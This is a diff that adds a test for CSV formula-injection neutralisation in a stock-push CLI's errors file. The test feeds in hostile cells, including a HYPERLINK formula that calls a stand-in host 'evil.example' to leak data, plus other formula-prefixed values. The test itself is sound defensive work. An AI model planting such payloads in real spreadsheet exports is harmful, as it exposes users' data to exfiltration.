@@ -239,3 +239,32 @@ describe('text encodings', () => {
     expect(service.sandbox.getProduct('S-3')).toMatchObject({ name });
   });
 });
+
+test('errors-file cells starting with =, +, -, @, tab or CR are neutralised (a leading quote, the cell quoted), ids and messages alike', async () => {
+  const store = '7c9e6679-7425-40de-944b-e07fc1f90ae7';
+  const ids = ['=1+2', '@SUM(A1)', '-5', '+cmd', 'tab\tinside', 'plain;=1+1'];
+  const file = join(dir, 'formulas.csv');
+  writeFileSync(file, `external_id,store_id,stock_quantity\n${ids.map((id) => `"${id}",${store},1`).join('\n')}\n"=1+2",${store},2\n`);
+  // Every id is unknown to the service; its messages are made hostile on the way back.
+  const hostile = ['=HYPERLINK("http://evil.example/?leak","open")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+  service.rewrite = (_request, answer) => {
+    const body = JSON.parse(answer) as { results?: Array<{ error?: { message: string } }> };
+    body.results?.forEach((result, i) => {
+      if (result.error) result.error.message = hostile[i % hostile.length]!;
+    });
+    return JSON.stringify(body);
+  };
+  const result = await cli(['stock', 'push', file]);
+  service.rewrite = undefined;
+  expect(result.code).toBe(1);
+  const text = readFileSync(`${file}.errors.csv`, 'utf8');
+  const { parse } = await import('csv-parse/sync');
+  const rows = parse(text, { from_line: 2 }) as string[][];
+  expect(rows).toHaveLength(7);
+  for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
+  expect(rows[0]).toEqual(['2', "'=1+2", store, 'PRODUCT_NOT_FOUND', `'=HYPERLINK("http://evil.example/?leak","open")`]);
+  expect(rows.map((row) => row[4]).slice(0, 6)).toEqual(hostile.map((message) => `'${message}`));
+  expect(rows[6]).toEqual(['8', "'=1+2", store, 'VALIDATION_ERROR', expect.stringMatching(/^external_id and store_id repeated/)]);
+  expect(text).toContain(`\n3,"'@SUM(A1)",${store},`);
+  expect(text).toContain('"plain;=1+1"');
+});
